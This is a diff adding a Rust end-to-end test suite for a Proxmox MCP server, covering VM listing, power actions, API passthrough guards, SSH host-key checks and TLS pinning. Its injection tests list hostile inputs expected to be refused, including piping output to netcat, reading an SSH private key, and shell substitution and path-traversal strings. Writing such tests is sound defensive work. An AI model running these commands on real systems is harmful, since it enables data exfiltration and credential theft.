@@ -1,0 +1,737 @@
+//! proxmox end to end: the real binary and an MCP client against the Proxmox simulator,
+//! a real OpenSSH sshd on 127.0.0.1, and fakepve (an independent PVE fake) over pinned TLS.
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::process::Stdio;
+
+use serde_json::{Value, json};
+use test_support::tokens::token;
+use test_support::{RpcClient, ServerProcess, ServerSpec, SimProcess};
+use tokio::io::{AsyncBufReadExt, BufReader};
+
+const BIN: &str = env!("CARGO_BIN_EXE_proxmox");
+const TOKEN_ID: &str = "mcp@pve!ci";
+const SECRET: &str = "5f1c9a2e-0000-4000-8000-00000000c1c1";
+const ALL: &[&str] = &["proxmox:read", "proxmox:power", "proxmox:exec"];
+
+fn repo() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
+}
+
+async fn sim() -> SimProcess {
+    SimProcess::start(&[
+        "proxmox",
+        "--token-id",
+        TOKEN_ID,
+        "--token-secret",
+        SECRET,
+        "--task-ms",
+        "100",
+    ])
+    .await
+}
+
+fn spec(upstream: &str) -> ServerSpec {
+    ServerSpec::http(BIN)
+        .env("MCP_STATELESS", "true")
+        .env("PROXMOX_HOST", upstream)
+        .env("PROXMOX_TOKEN_ID", TOKEN_ID)
+        .env("PROXMOX_TOKEN_SECRET", SECRET)
+}
+
+async fn client(server: &ServerProcess, scopes: &[&str]) -> RpcClient {
+    let mut c = RpcClient::new(
+        format!("{}/mcp", server.base()),
+        Some(token("operator", scopes)),
+    );
+    assert_eq!(c.initialize().await.status, 200);
+    c
+}
+
+async fn ok(c: &mut RpcClient, tool: &str, args: Value) -> Value {
+    let r = c.call(tool, args.clone()).await;
+    assert_eq!(r["result"]["isError"], false, "{tool}({args}) failed: {r}");
+    r["result"]["structuredContent"].clone()
+}
+
+async fn err(c: &mut RpcClient, tool: &str, args: Value) -> String {
+    let r = c.call(tool, args.clone()).await;
+    assert_eq!(
+        r["result"]["isError"], true,
+        "{tool}({args}) should fail: {r}"
+    );
+    r["result"]["content"][0]["text"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string()
+}
+
+#[tokio::test]
+async fn nodes_vms_and_status_through_the_api() {
+    let sim = sim().await;
+    let server = ServerProcess::start(&spec(&sim.base)).await;
+    let mut c = client(&server, &["proxmox:read"]).await;
+    let mut tools = c.tool_names().await;
+    tools.sort();
+    assert_eq!(
+        tools,
+        vec![
+            "list_nodes",
+            "list_vms",
+            "node_status",
+            "proxmox_api",
+            "task_status",
+            "vm_status"
+        ]
+    );
+
+    let nodes = ok(&mut c, "list_nodes", json!({})).await;
+    let names: Vec<&str> = nodes["data"]
+        .as_array()
+        .expect("nodes")
+        .iter()
+        .filter_map(|n| n["node"].as_str())
+        .collect();
+    assert_eq!(names, vec!["pve1", "pve2", "pve3"]);
+    let st = ok(&mut c, "node_status", json!({"node": "pve1"})).await;
+    assert!(
+        st["data"]["pveversion"]
+            .as_str()
+            .is_some_and(|v| v.starts_with("pve-manager/")),
+        "{st}"
+    );
+    let e = err(&mut c, "node_status", json!({"node": "pve3"})).await;
+    assert!(e.starts_with("Proxmox VE is unavailable: the node is unreachable from the cluster: No route to host (HTTP 595)"), "{e}");
+    let e = err(&mut c, "node_status", json!({"node": "pve9"})).await;
+    assert!(
+        e.starts_with("Proxmox VE said: hostname lookup 'pve9' failed"),
+        "{e}"
+    );
+
+    let all = ok(&mut c, "list_vms", json!({})).await;
+    let ids: Vec<u64> = all["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .filter_map(|g| g["vmid"].as_u64())
+        .collect();
+    assert_eq!(ids, vec![100, 101, 102, 104, 200, 201, 9000]);
+    let running_qemu = ok(
+        &mut c,
+        "list_vms",
+        json!({"kind": "qemu", "status": "running"}),
+    )
+    .await;
+    assert_eq!(
+        running_qemu["items"].as_array().map(|a| a
+            .iter()
+            .filter_map(|g| g["vmid"].as_u64())
+            .collect::<Vec<_>>()),
+        Some(vec![100, 101, 104])
+    );
+    let pve2 = ok(&mut c, "list_vms", json!({"node": "pve2", "kind": "lxc"})).await;
+    assert_eq!(pve2["total"], 1);
+    let named = ok(&mut c, "list_vms", json!({"name_filter": "DNS"})).await;
+    assert_eq!(named["items"][0]["name"], "dns-01");
+    let paged = ok(&mut c, "list_vms", json!({"limit": 2, "offset": 2})).await;
+    assert_eq!(
+        (
+            paged["items"].as_array().map(Vec::len),
+            paged["has_more"].as_bool()
+        ),
+        (Some(2), Some(true))
+    );
+
+    let s = ok(&mut c, "vm_status", json!({"vmid": 200})).await;
+    assert_eq!(
+        (
+            s["node"].as_str(),
+            s["kind"].as_str(),
+            s["status"]["status"].as_str()
+        ),
+        (Some("pve1"), Some("lxc"), Some("running"))
+    );
+    let e = err(&mut c, "vm_status", json!({"vmid": 200, "node": "pve2"})).await;
+    assert!(e.contains("VM 200 is on node pve1, not pve2"), "{e}");
+    let e = err(&mut c, "vm_status", json!({"vmid": 4242})).await;
+    assert!(e.contains("no VM or container with VMID 4242"), "{e}");
+    let e = err(&mut c, "vm_status", json!({"vmid": 104})).await;
+    assert!(
+        e.starts_with("Proxmox VE said: Permission check failed (/vms/104, VM.Audit) (HTTP 403)"),
+        "{e}"
+    );
+    // Answers about one node or guest are not upstream failures: no retries, no open breaker.
+    let stats = sim.stats().await;
+    assert_eq!(
+        stats["by_key"]["GET /nodes/pve3/status"], 1,
+        "a 595 is not retried: {stats}"
+    );
+    for _ in 0..6 {
+        err(&mut c, "node_status", json!({"node": "pve3"})).await;
+    }
+    ok(&mut c, "list_nodes", json!({})).await;
+}
+
+#[tokio::test]
+async fn power_actions_follow_tasks_and_policy() {
+    let sim = sim().await;
+    let server =
+        ServerProcess::start(&spec(&sim.base).env("PROXMOX_VMID_DENYLIST", "9000-9999")).await;
+    let mut c = client(&server, ALL).await;
+    let r = ok(
+        &mut c,
+        "vm_action",
+        json!({"vmid": 102, "action": "start", "wait": true, "timeout_seconds": 30}),
+    )
+    .await;
+    assert_eq!(
+        (
+            r["node"].as_str(),
+            r["task_status"].as_str(),
+            r["exit_status"].as_str(),
+            r["ok"].as_bool()
+        ),
+        (Some("pve2"), Some("stopped"), Some("OK"), Some(true)),
+        "{r}"
+    );
+    let st = ok(&mut c, "vm_status", json!({"vmid": 102})).await;
+    assert_eq!(st["status"]["status"], "running");
+    let upid = r["upid"].as_str().expect("upid").to_string();
+    let task = ok(&mut c, "task_status", json!({"node": "pve2", "upid": upid})).await;
+    assert_eq!(task["data"]["exitstatus"], "OK");
+
+    let e = err(
+        &mut c,
+        "vm_action",
+        json!({"vmid": 102, "action": "start", "wait": true}),
+    )
+    .await;
+    assert_eq!(e, "Proxmox VE said: VM 102 already running (HTTP 500)");
+
+    let e = err(&mut c, "vm_action", json!({"vmid": 101, "action": "stop"})).await;
+    assert!(e.contains("VM 101 has the protection flag set"), "{e}");
+    let e = err(&mut c, "vm_action", json!({"vmid": 104, "action": "stop"})).await;
+    assert!(
+        e.contains("Permission check failed (/vms/104, VM.Audit)"),
+        "{e}"
+    );
+    let e = err(&mut c, "vm_action", json!({"vmid": 200, "action": "reset"})).await;
+    assert!(
+        e.contains("invalid argument `action`: reset is only for qemu"),
+        "{e}"
+    );
+    let e = err(
+        &mut c,
+        "vm_action",
+        json!({"vmid": 9000, "action": "start"}),
+    )
+    .await;
+    assert!(e.contains("VMID 9000 is in PROXMOX_VMID_DENYLIST"), "{e}");
+    let nowait = ok(
+        &mut c,
+        "vm_action",
+        json!({"vmid": 200, "action": "shutdown"}),
+    )
+    .await;
+    assert!(
+        nowait["upid"]
+            .as_str()
+            .is_some_and(|u| u.starts_with("UPID:pve1:"))
+            && nowait.get("task_status").is_none()
+    );
+
+    let mut reader = client(&server, &["proxmox:read"]).await;
+    let r = reader
+        .call("vm_action", json!({"vmid": 100, "action": "stop"}))
+        .await;
+    assert_eq!(
+        r["error"]["message"], "tool `vm_action` not found",
+        "power needs proxmox:power"
+    );
+}
+
+#[tokio::test]
+async fn the_api_passthrough_is_guarded() {
+    let sim = sim().await;
+    let server = ServerProcess::start(&spec(&sim.base)).await;
+    let mut c = client(&server, &["proxmox:read"]).await;
+    let storage = ok(
+        &mut c,
+        "proxmox_api",
+        json!({"method": "GET", "path": "/nodes/pve1/storage"}),
+    )
+    .await;
+    assert!(
+        storage["data"].as_array().is_some_and(|a| !a.is_empty()),
+        "{storage}"
+    );
+    let before = sim.total().await;
+    for (args, want) in [
+        (
+            json!({"method": "GET", "path": "/access/users"}),
+            "denied by this server's policy",
+        ),
+        (
+            json!({"method": "GET", "path": "/nodes/pve1/../../access/users"}),
+            "`path`",
+        ),
+        (
+            json!({"method": "GET", "path": "/nodes/pve1/storage?x=1"}),
+            "`path`",
+        ),
+        (
+            json!({"method": "GET", "path": "/nodes/%2e%2e/access"}),
+            "`path`",
+        ),
+        (json!({"method": "GET", "path": "nodes"}), "`path`"),
+        (
+            json!({"method": "GET", "path": "/nodes/pve1/qemu/100/agent/exec"}),
+            "denied",
+        ),
+        (
+            json!({"method": "GET", "path": "/nodes/pve1/termproxy"}),
+            "denied",
+        ),
+        (
+            json!({"method": "POST", "path": "/nodes/pve1/qemu/100/status/stop"}),
+            "requires the proxmox:admin scope",
+        ),
+        (
+            json!({"method": "GET", "path": "/nodes", "params": {"x": {"nested": 1}}}),
+            "`params.x`",
+        ),
+        (json!({"method": "PATCH", "path": "/nodes"}), "`method`"),
+    ] {
+        let e = err(&mut c, "proxmox_api", args.clone()).await;
+        assert!(e.contains(want), "{args}: {e}");
+    }
+    assert_eq!(sim.total().await, before, "no refused call reached Proxmox");
+
+    let mut admin = client(&server, &["proxmox:admin"]).await;
+    let r = ok(
+        &mut admin,
+        "proxmox_api",
+        json!({"method": "POST", "path": "/nodes/pve2/qemu/102/status/start"}),
+    )
+    .await;
+    assert!(
+        r["data"].as_str().is_some_and(|u| u.starts_with("UPID:")),
+        "{r}"
+    );
+
+    let ro = ServerProcess::start(&spec(&sim.base).env("MCP_READ_ONLY", "true")).await;
+    let mut c = client(&ro, &["proxmox:admin", "proxmox:power", "proxmox:exec"]).await;
+    let mut tools = c.tool_names().await;
+    tools.sort();
+    assert_eq!(
+        tools,
+        vec![
+            "list_nodes",
+            "list_vms",
+            "node_status",
+            "proxmox_api",
+            "task_status",
+            "vm_status"
+        ],
+        "read-only keeps the passthrough for GET"
+    );
+    let e = err(
+        &mut c,
+        "proxmox_api",
+        json!({"method": "DELETE", "path": "/nodes/pve2/qemu/102"}),
+    )
+    .await;
+    assert!(e.contains("read-only mode"), "{e}");
+}
+
+#[tokio::test]
+async fn api_errors_and_faults() {
+    let sim = sim().await;
+    let server =
+        ServerProcess::start_unready(&spec(&sim.base).env("PROXMOX_TOKEN_SECRET", "wrong")).await;
+    let mut c = client(&server, &["proxmox:read"]).await;
+    let e = err(&mut c, "list_nodes", json!({})).await;
+    assert_eq!(
+        e,
+        "Proxmox VE said: authentication failure (HTTP 401): the API token was rejected; check PROXMOX_TOKEN_ID and PROXMOX_TOKEN_SECRET"
+    );
+
+    let server = ServerProcess::start(&spec(&sim.base)).await;
+    let mut c = client(&server, &["proxmox:read"]).await;
+    sim.faults(json!({"fail_next": 1, "fail_status": 503}))
+        .await;
+    ok(&mut c, "list_nodes", json!({})).await; // a GET is retried past one 503
+    sim.faults(json!({"fail_next": 5, "fail_status": 595}))
+        .await;
+    let e = err(&mut c, "list_nodes", json!({})).await;
+    assert!(e.contains("(HTTP 595)"), "{e}");
+    sim.faults(json!({"drop_next": 5})).await;
+    let e = err(&mut c, "list_nodes", json!({})).await;
+    assert!(e.starts_with("Proxmox VE is unavailable"), "{e}");
+    sim.faults(json!({})).await;
+}
+
+/// A private sshd from tests/peers/sshd.sh.
+struct Sshd {
+    dir: tempfile::TempDir,
+    env: HashMap<String, String>,
+}
+
+impl Sshd {
+    async fn start() -> Self {
+        let dir = tempfile::Builder::new()
+            .prefix("sshd")
+            .tempdir()
+            .expect("tempdir");
+        let script = repo().join("tests/peers/sshd.sh");
+        let out = tokio::process::Command::new("bash")
+            .arg(&script)
+            .arg("start")
+            .arg(dir.path())
+            .output()
+            .await
+            .expect("sshd.sh");
+        assert!(
+            out.status.success(),
+            "sshd.sh start failed (is openssh-server installed? `make deps` does): {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let text = std::fs::read_to_string(dir.path().join("env")).expect("env file");
+        let env = text
+            .lines()
+            .filter_map(|l| l.split_once('='))
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        Self { dir, env }
+    }
+
+    fn get(&self, k: &str) -> &str {
+        self.env
+            .get(k)
+            .map(String::as_str)
+            .unwrap_or_else(|| panic!("{k} missing from sshd env"))
+    }
+
+    fn accepted(&self) -> usize {
+        std::fs::read_to_string(self.dir.path().join("sshd.log"))
+            .unwrap_or_default()
+            .matches("Accepted publickey")
+            .count()
+    }
+}
+
+impl Drop for Sshd {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("bash")
+            .arg(repo().join("tests/peers/sshd.sh"))
+            .arg("stop")
+            .arg(self.dir.path())
+            .status();
+    }
+}
+
+fn ssh_spec(sim: &SimProcess, sshd: &Sshd) -> ServerSpec {
+    spec(&sim.base)
+        .env("PROXMOX_SSH_HOST", "127.0.0.1")
+        .env("PROXMOX_SSH_PORT", sshd.get("SSH_PORT"))
+        .env("PROXMOX_SSH_USER", sshd.get("SSH_USER"))
+        .env("PROXMOX_SSH_KEY_PATH", sshd.get("SSH_KEY"))
+        .env("PROXMOX_SSH_KNOWN_HOSTS", sshd.get("SSH_KNOWN_HOSTS"))
+        .env(
+            "PROXMOX_COMMAND_ALLOWLIST",
+            "qm list,qm status,pveversion,uptime,seq,sleep,sh",
+        )
+        .env("PROXMOX_SSH_OUTPUT_CAP", "4096")
+}
+
+#[tokio::test]
+async fn commands_run_over_a_pooled_verified_ssh_session() {
+    let sim = sim().await;
+    let sshd = Sshd::start().await;
+    let server = ServerProcess::start(&ssh_spec(&sim, &sshd)).await;
+    let mut c = client(&server, &["proxmox:exec"]).await;
+
+    let r = ok(
+        &mut c,
+        "execute_command",
+        json!({"command": "qm list", "node": "pve1"}),
+    )
+    .await;
+    assert_eq!(r["exit_status"], 0, "{r}");
+    assert!(
+        r["stdout"]
+            .as_str()
+            .is_some_and(|o| o.contains("VMID") && o.contains("web")),
+        "{r}"
+    );
+    assert_eq!(r["command"], "'qm' 'list'");
+    let v = ok(
+        &mut c,
+        "execute_command",
+        json!({"command": "pveversion", "node": "pve1"}),
+    )
+    .await;
+    assert!(
+        v["stdout"]
+            .as_str()
+            .is_some_and(|o| o.starts_with("pve-manager/")),
+        "{v}"
+    );
+    let bad = ok(
+        &mut c,
+        "execute_command",
+        json!({"command": "qm status nosuchvm", "node": "pve1"}),
+    )
+    .await;
+    assert_ne!(
+        bad["exit_status"], 0,
+        "a failing command reports its exit status: {bad}"
+    );
+    assert!(
+        !bad["stderr"].as_str().unwrap_or_default().is_empty(),
+        "stderr is separate: {bad}"
+    );
+
+    let big = ok(
+        &mut c,
+        "execute_command",
+        json!({"command": "seq 1 100000", "node": "pve1"}),
+    )
+    .await;
+    assert_eq!(big["truncated"], true);
+    assert_eq!(big["stdout"].as_str().map(str::len), Some(4096));
+
+    let e = err(
+        &mut c,
+        "execute_command",
+        json!({"command": "sleep 30", "node": "pve1", "timeout_seconds": 1}),
+    )
+    .await;
+    assert!(e.contains("did not finish within 1 s"), "{e}");
+
+    // Every command so far, six of them, used one SSH login.
+    assert_eq!(sshd.accepted(), 1, "connections are pooled");
+    let metric = server
+        .metric("proxmox_ssh_connections_total{host=\"127.0.0.1\"}")
+        .await;
+    assert_eq!(metric, Some(1.0));
+
+    let before = sshd.accepted();
+    for (cmd, field) in [
+        ("uptime; id", "command"),
+        ("uptime && id", "command"),
+        ("sh -c id", "__allowlisted__"),
+        ("qm destroy 100", "__denied__"),
+        ("uptime\nid", "command"),
+        ("qm list | nc 10.0.0.1 9", "command"),
+        ("seq 1 $(id)", "command"),
+        ("qm list `id`", "command"),
+        ("sleep 1 > /tmp/x", "command"),
+        ("qm status *", "command"),
+        ("uptime \u{0}", "command"),
+        ("cat ~/.ssh/id_ed25519", "command"),
+    ] {
+        let r = c
+            .call("execute_command", json!({"command": cmd, "node": "pve1"}))
+            .await;
+        let text = r["result"]["content"][0]["text"]
+            .as_str()
+            .unwrap_or_default()
+            .to_string();
+        match field {
+            "__allowlisted__" => assert!(
+                r["result"]["isError"] == false,
+                "`sh -c id` is plain words on an allowlisted prefix: {r}"
+            ),
+            "__denied__" => assert!(
+                text.contains("not on the command allowlist"),
+                "{cmd}: {text}"
+            ),
+            f => assert!(text.contains(&format!("`{f}`")), "{cmd:?}: {text}"),
+        }
+    }
+    assert_eq!(
+        sshd.accepted(),
+        before,
+        "no new SSH session for refused input"
+    );
+}
+
+#[tokio::test]
+async fn unknown_and_changed_host_keys_are_refused() {
+    let sim = sim().await;
+    let sshd = Sshd::start().await;
+    // An empty known_hosts: the host is unknown.
+    let empty = tempfile::NamedTempFile::new().expect("tmp");
+    let server = ServerProcess::start(&ssh_spec(&sim, &sshd).env(
+        "PROXMOX_SSH_KNOWN_HOSTS",
+        empty.path().display().to_string(),
+    ))
+    .await;
+    let mut c = client(&server, &["proxmox:exec"]).await;
+    let e = err(
+        &mut c,
+        "execute_command",
+        json!({"command": "uptime", "node": "pve1"}),
+    )
+    .await;
+    assert!(e.contains("is not trusted"), "{e}");
+    drop(server);
+
+    // A known_hosts entry with another key for the same host: a changed key.
+    let other = tempfile::tempdir().expect("tmp");
+    let key = other.path().join("k");
+    let st = std::process::Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
+        .arg(&key)
+        .status()
+        .expect("ssh-keygen");
+    assert!(st.success());
+    let pubkey = std::fs::read_to_string(key.with_extension("pub")).expect("pub");
+    let kh = other.path().join("known_hosts");
+    std::fs::write(
+        &kh,
+        format!("[127.0.0.1]:{} {}", sshd.get("SSH_PORT"), pubkey),
+    )
+    .expect("write");
+    let server = ServerProcess::start(
+        &ssh_spec(&sim, &sshd).env("PROXMOX_SSH_KNOWN_HOSTS", kh.display().to_string()),
+    )
+    .await;
+    let mut c = client(&server, &["proxmox:exec"]).await;
+    let e = err(
+        &mut c,
+        "execute_command",
+        json!({"command": "uptime", "node": "pve1"}),
+    )
+    .await;
+    assert!(e.contains("is not trusted"), "{e}");
+    assert!(
+        server.logs().join("\n").contains("SSH HOST KEY MISMATCH"),
+        "a changed key is logged loudly"
+    );
+    drop(server);
+
+    // A pinned fingerprint works; a wrong one does not.
+    let server = ServerProcess::start(
+        &ssh_spec(&sim, &sshd)
+            .without_env("PROXMOX_SSH_KNOWN_HOSTS")
+            .env(
+                "PROXMOX_SSH_HOST_FINGERPRINT",
+                sshd.get("SSH_HOST_FINGERPRINT"),
+            ),
+    )
+    .await;
+    let mut c = client(&server, &["proxmox:exec"]).await;
+    ok(
+        &mut c,
+        "execute_command",
+        json!({"command": "uptime", "node": "pve1"}),
+    )
+    .await;
+    let out = tokio::process::Command::new(BIN)
+        .arg("check")
+        .env_clear()
+        .envs([
+            ("PROXMOX_HOST", sim.base.as_str()),
+            ("PROXMOX_TOKEN_ID", TOKEN_ID),
+            ("PROXMOX_TOKEN_SECRET", SECRET),
+            ("PROXMOX_SSH_KEY_PATH", sshd.get("SSH_KEY")),
+        ])
+        .output()
+        .await
+        .expect("run");
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "an SSH key without host-key verification is refused at startup"
+    );
+    assert!(String::from_utf8_lossy(&out.stderr).contains("PROXMOX_SSH_KNOWN_HOSTS is required"));
+}
+
+/// fakepve, started by tests/peers/fakepve_launcher.py: (child, url, fingerprint).
+async fn fakepve(dir: &Path) -> (tokio::process::Child, String, String) {
+    let py = repo().join(".venv/bin/python");
+    let mut child = tokio::process::Command::new(&py)
+        .arg(repo().join("tests/peers/fakepve_launcher.py"))
+        .args([
+            "--token-id",
+            TOKEN_ID,
+            "--token-secret",
+            SECRET,
+            "--seed",
+            "--cert-out",
+        ])
+        .arg(dir.join("pve.pem"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::inherit())
+        .kill_on_drop(true)
+        .spawn()
+        .unwrap_or_else(|e| {
+            panic!(
+                "cannot start fakepve via {} ({e}); `make deps` installs it",
+                py.display()
+            )
+        });
+    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
+    let first = tokio::time::timeout(std::time::Duration::from_secs(60), lines.next_line())
+        .await
+        .ok()
+        .and_then(|l| l.ok())
+        .flatten()
+        .unwrap_or_default();
+    let rest = first
+        .strip_prefix("listening on ")
+        .unwrap_or_else(|| panic!("fakepve said {first:?}"));
+    let (url, fp) = rest
+        .split_once(" sha256=")
+        .unwrap_or_else(|| panic!("no fingerprint in {first:?}"));
+    (child, url.to_string(), fp.to_string())
+}
+
+#[tokio::test]
+async fn against_fakepve_over_pinned_tls() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let (_pve, url, fp) = fakepve(dir.path()).await;
+    // Without a pin or CA the self-signed certificate is refused.
+    let unpinned = ServerProcess::start_unready(&spec(&url)).await;
+    let mut c = client(&unpinned, &["proxmox:read"]).await;
+    let e = err(&mut c, "list_nodes", json!({})).await;
+    assert!(e.starts_with("Proxmox VE is unavailable"), "{e}");
+    drop(unpinned);
+    let wrong = "00:".repeat(31) + "00";
+    let server =
+        ServerProcess::start_unready(&spec(&url).env("PROXMOX_TLS_FINGERPRINT", wrong)).await;
+    let mut c = client(&server, &["proxmox:read"]).await;
+    let e = err(&mut c, "list_nodes", json!({})).await;
+    assert!(
+        e.starts_with("Proxmox VE is unavailable"),
+        "a wrong pin is refused: {e}"
+    );
+    drop(server);
+
+    let server = ServerProcess::start(&spec(&url).env("PROXMOX_TLS_FINGERPRINT", fp)).await;
+    let mut c = client(&server, ALL).await;
+    let vms = ok(&mut c, "list_vms", json!({"kind": "qemu"})).await;
+    let ids: Vec<u64> = vms["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .filter_map(|g| g["vmid"].as_u64())
+        .collect();
+    assert_eq!(ids, vec![100, 101, 110]);
+    let r = ok(
+        &mut c,
+        "vm_action",
+        json!({"vmid": 101, "action": "start", "wait": true}),
+    )
+    .await;
+    assert_eq!(
+        (r["exit_status"].as_str(), r["ok"].as_bool()),
+        (Some("OK"), Some(true)),
+        "{r}"
+    );
+    let st = ok(&mut c, "vm_status", json!({"vmid": 101})).await;
+    assert_eq!(st["status"]["status"], "running");
+}
